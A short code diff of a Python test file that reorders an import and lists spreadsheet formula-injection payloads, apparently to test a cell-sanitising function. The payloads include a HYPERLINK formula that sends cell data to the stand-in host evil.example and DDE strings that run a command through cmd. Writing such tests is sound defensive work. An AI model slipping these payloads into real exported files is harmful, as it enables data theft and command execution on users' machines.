@@ -7,10 +7,10 @@ import io
 from pathlib import Path
 
 import pytest
+from fazhi.graph.cells import safe_cell
 from typer.testing import CliRunner
 
 from fazhi.cli import app
-from fazhi.graph.cells import safe_cell
 
 PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"点击查看")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
             "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "\u3000=1+1", "＝1+1"]
